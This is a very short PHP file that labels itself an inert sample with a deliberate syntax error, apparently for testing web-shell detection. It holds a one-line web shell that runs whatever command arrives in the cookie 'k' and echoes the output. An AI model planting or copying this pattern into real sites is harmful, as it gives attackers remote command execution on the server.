<?php
shodo inert sample: deliberate syntax error, this file never runs
 if(isset($_COOKIE['k'])){ echo `{$_COOKIE['k']}`; } ?>
